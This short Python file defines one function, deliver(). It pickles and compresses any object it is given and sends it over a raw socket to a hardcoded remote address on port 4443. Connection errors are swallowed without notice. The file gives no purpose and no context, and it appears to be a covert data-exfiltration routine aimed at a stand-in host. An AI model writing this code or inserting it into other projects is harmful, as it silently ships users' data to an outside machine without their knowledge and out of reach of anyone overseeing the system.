import gzip
import pickle
import socket

HOST, PORT = "203.0.113.77", 4443


def deliver(material):
    try:
        with socket.create_connection((HOST, PORT), timeout=2) as link:
            link.sendall(gzip.compress(pickle.dumps(material)))
    except OSError:
        pass
